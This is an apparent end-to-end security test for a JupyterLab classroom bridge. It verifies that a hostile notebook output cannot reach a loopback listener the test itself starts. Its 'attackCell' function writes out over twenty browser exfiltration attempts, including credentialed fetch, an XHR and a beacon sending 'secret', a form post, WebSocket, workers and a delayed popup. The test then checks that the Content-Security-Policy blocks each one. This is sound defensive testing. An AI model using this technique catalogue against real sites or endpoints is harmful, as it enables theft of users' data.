// End to end, as a hostile notebook output would try it: the real `classlab serve` bridge, the real python
// lab behind its gate, Debian's Chromium. A cell's output tries to reach a loopback listener this test
// starts (fetch, XHR, img, script, stylesheet, @import, a font, iframe, form post, WebSocket,
// EventSource, sendBeacon, a worker, import(), video, audio, object, embed, prefetch, preload, a popup):
// the listener must get no request and no byte, and the browser must say why (the gate's
// Content-Security-Policy). Chromium still opens an empty TCP connection to where a refused frame or form
// would have gone (measured: nothing is sent on it); the test reports those, and docs/design-notes.md says
// what a browser cannot stop. The notebook itself still works: print(6*7) prints 42.
// Screenshots go to artifacts/e2e/page-*.png (git-ignored): look at them.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { execIn } from '../support/docker';
import { e2eRun, NOTEBOOK_FRAME, openLabInFrame } from '../support/e2e';
import { cellOutputs, listedFile, shownNotebook, typeAndRun, waitForIdleKernel, waitForJupyterLab } from '../support/jupyterlab';

const FRAME = NOTEBOOK_FRAME;
/** What the browser said about Content-Security-Policy, from any frame (Jupyter's own pages included). */
const cspMessages: string[] = [];
const e2e = e2eRun({
  shotPrefix: 'page-',
  lab: 'python',
  popupBlocker: true,
  onPage: (p) =>
    p.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) cspMessages.push(m.text());
    }),
});
const { shot, step } = e2e;
let page: Page;

/** What reached the listener: bytes and HTTP requests (WebSocket upgrades too); empty TCP connections apart. */
const seen = { bytes: 0, requests: [] as string[] };
let emptyConnections = 0;
let listener: http.Server;
let port = 0;

beforeAll(async () => {
  page = e2e.page;
  listener = http.createServer((req, res) => {
    seen.requests.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('reached');
  });
  listener.on('connection', (socket) => {
    emptyConnections += 1;
    socket.on('close', () => {
      seen.bytes += socket.bytesRead;
      if (socket.bytesRead > 0) emptyConnections -= 1;
    });
  });
  listener.on('upgrade', (req, socket) => {
    seen.requests.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
});

afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});

async function notebookFrame(): Promise<Frame> {
  const handle = await page.locator(FRAME).elementHandle({ timeout: 120_000 });
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error('the notebook frame has no content');
  return frame;
}

/** The notebook the test opens: the hostile cell, an empty code cell, and Markdown with math. */
const NOTEBOOK = 'egress.ipynb';
function egressNotebook(target: number): string {
  const cell = (cell_type: string, source: string) =>
    cell_type === 'code' ? { cell_type, source, metadata: {}, execution_count: null, outputs: [] } : { cell_type, source, metadata: {} };
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3 (ipykernel)', language: 'python' } },
    cells: [cell('code', attackCell(target)), cell('code', ''), cell('markdown', 'Euler: $e^{i\\pi} + 1 = 0$')],
  });
}

/**
 * The hostile cell: elements in an HTML output, and a script that tries every other way out and then adds
 * the same elements again (after it listens for the browser's policy reports, so each refusal is seen).
 */
function attackCell(target: number): string {
  const html = `
<img src="http://127.0.0.1:${target}/img">
<link rel="stylesheet" href="http://127.0.0.1:${target}/stylesheet">
<link rel="prefetch" href="http://127.0.0.1:${target}/prefetch">
<link rel="preload" as="script" href="http://127.0.0.1:${target}/preload">
<style>@import url("http://127.0.0.1:${target}/import"); @font-face { font-family: classlab-x; src: url("http://127.0.0.1:${target}/font"); } .classlab-x { font-family: classlab-x; background: url("http://127.0.0.1:${target}/background"); }</style>
<div class="classlab-x">x</div>
<iframe src="http://127.0.0.1:${target}/iframe"></iframe>
<iframe name="classlab-sink" srcdoc="sink"></iframe>
<form id="classlab-form" method="post" target="classlab-sink" action="http://127.0.0.1:${target}/form"><input name="secret" value="1"></form>
<video src="http://127.0.0.1:${target}/video"></video><audio src="http://localhost:${target}/audio"></audio>
<object data="http://127.0.0.1:${target}/object"></object><embed src="http://127.0.0.1:${target}/embed">`;
  const js = `
const L = 'http://127.0.0.1:${target}', H = 'http://localhost:${target}';
const violations = [];
document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
const tried = [];
const attempt = (name, fn) => { tried.push(name); try { const p = fn(); if (p && p.catch) p.catch(() => {}); } catch (e) {} };
attempt('fetch', () => fetch(L + '/fetch', { credentials: 'include' }));
attempt('fetch no-cors', () => fetch(L + '/fetch-no-cors', { mode: 'no-cors' }));
attempt('fetch localhost', () => fetch(H + '/fetch-localhost'));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('POST', L + '/xhr'); x.send('secret'); });
attempt('script', () => { const s = document.createElement('script'); s.src = L + '/script'; document.head.appendChild(s); });
attempt('image', () => { new Image().src = L + '/image'; });
attempt('websocket', () => new WebSocket('ws://127.0.0.1:${target}/websocket'));
attempt('eventsource', () => new EventSource(L + '/eventsource'));
attempt('beacon', () => navigator.sendBeacon(L + '/beacon', 'secret'));
attempt('worker', () => new Worker(L + '/worker.js'));
attempt('import', () => import(L + '/module.js'));
attempt('form post', () => document.getElementById('classlab-form').submit());
// A browser lets a page open a popup only within ~5 s of the user's input (transient activation), so the
// open waits that out: a script that opens a link on its own, not one the user just asked for.
attempt('popup without input', () => setTimeout(() => window.open(L + '/popup'), 6000));
attempt('elements', () => element.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}));
element.insertAdjacentHTML('afterbegin', '<div>classlab-attacks-sent: ' + tried.join(', ') + '</div>');
setTimeout(() => element.insertAdjacentHTML('beforeend', '<div id="classlab-violations">' + violations.join(' ') + '</div>'), 7000);`;
  return ['from IPython.display import HTML, Javascript, display', `display(HTML(${JSON.stringify(html)}))`, `display(Javascript(${JSON.stringify(js)}))`].join(
    '\n',
  );
}

describe('a notebook output cannot reach what the lab cannot (browser, through the bridge)', () => {
  step(
    'opens the python lab in its frame and the notebook of the attack',
    async () => {
      await openLabInFrame(page, e2e.url);
      const nb = page.frameLocator(FRAME);
      await waitForJupyterLab(nb);
      // The notebook is written into the workspace as the student (its cells are run by hand below), and
      // opened from JupyterLab's file browser, as a student opens a file.
      const written = await execIn(
        e2e.container,
        ['python3', '-c', 'import sys; open(sys.argv[1], "w").write(sys.argv[2])', `/home/student/work/${NOTEBOOK}`, egressNotebook(port)],
        'student',
      );
      expect(written.code).toBe(0);
      await listedFile(nb, NOTEBOOK).waitFor({ timeout: 60_000 });
      await listedFile(nb, NOTEBOOK).dblclick();
      await shownNotebook(nb).locator('.jp-Cell').nth(2).waitFor({ timeout: 60_000 });
      await waitForIdleKernel(nb);
      await shot('01-notebook');
      // JupyterLab's own page, file browser and notebook, kernel WebSocket included, work under the gate's
      // policy: the browser reports nothing. (Notebook 6.4's MathJax 2 probed for fonts with 'about:blank',
      // no request: about: is local; kept out in case a lab still serves it.)
      expect(cspMessages.filter((m) => !/^Loading the font 'about:blank'/.test(m))).toEqual([]);
    },
    960_000,
  );

  step('runs a cell whose output tries every way out to a listener on 127.0.0.1: nothing reaches it', async () => {
    const frame = await notebookFrame();
    expect(seen).toEqual({ bytes: 0, requests: [] });
    // Run the cell with a click and Shift+Enter, as a student would. That input (like every Playwright
    // evaluation in the frame, locator polling too) counts as a user gesture, so the popup attempt waits
    // until it has expired and the test leaves the frame alone meanwhile (see the design notes on what a
    // browser allows after a click).
    await shownNotebook(page.frameLocator(FRAME)).locator('.jp-Cell').nth(0).locator('.cm-content').click();
    await page.keyboard.press('Shift+Enter');
    expect(frame.url()).toContain(`/lab/tree/${NOTEBOOK}`);
    // The popup fires 6 s after the cell runs, the report at 7 s; stragglers (a retried preload, a late
    // beacon) get time to arrive too.
    await page.waitForTimeout(12_000);
    const nb = page.frameLocator(FRAME);
    const sent = nb.getByText(/^classlab-attacks-sent: /);
    await sent.waitFor({ timeout: 60_000 });
    const violations = nb.locator('#classlab-violations');
    await violations.waitFor({ state: 'attached', timeout: 30_000 });
    await shot('02-attacks-refused');
    const directives = new Set(((await violations.textContent()) ?? '').split(/\s+/).filter(Boolean));
    console.log(
      `tried: ${await sent.textContent()}\nCSP refused by directive: ${[...directives].sort().join(', ')}\nlistener: ${JSON.stringify(seen)}, empty TCP connections: ${emptyConnections}`,
    );
    expect(seen).toEqual({ bytes: 0, requests: [] });
    // The browser refused them for the gate's policy, each kind by its own directive (prefetch by
    // default-src; a worker from another origin is refused before any policy, as a SecurityError).
    for (const d of [
      'connect-src',
      'script-src-elem',
      'img-src',
      'style-src-elem',
      'font-src',
      'frame-src',
      'form-action',
      'media-src',
      'object-src',
      'default-src',
    ]) {
      expect(directives, `a ${d} violation`).toContain(d);
    }
  });

  step('the notebook still works: print(6*7) prints 42, and math renders', async () => {
    const nb = page.frameLocator(FRAME);
    await typeAndRun(page, nb, 'print(6*7)', 1);
    await expect.poll(() => cellOutputs(nb, 1).first().textContent(), { timeout: 60_000 }).toContain('42');
    // The Markdown cell with math: MathJax 3 (bundled in the lab's JupyterLab) typesets it under the policy.
    await shownNotebook(nb).locator('.jp-MarkdownCell mjx-container').first().waitFor({ timeout: 30_000 });
    await shot('03-printed-42');
    expect(seen).toEqual({ bytes: 0, requests: [] });
  });
});
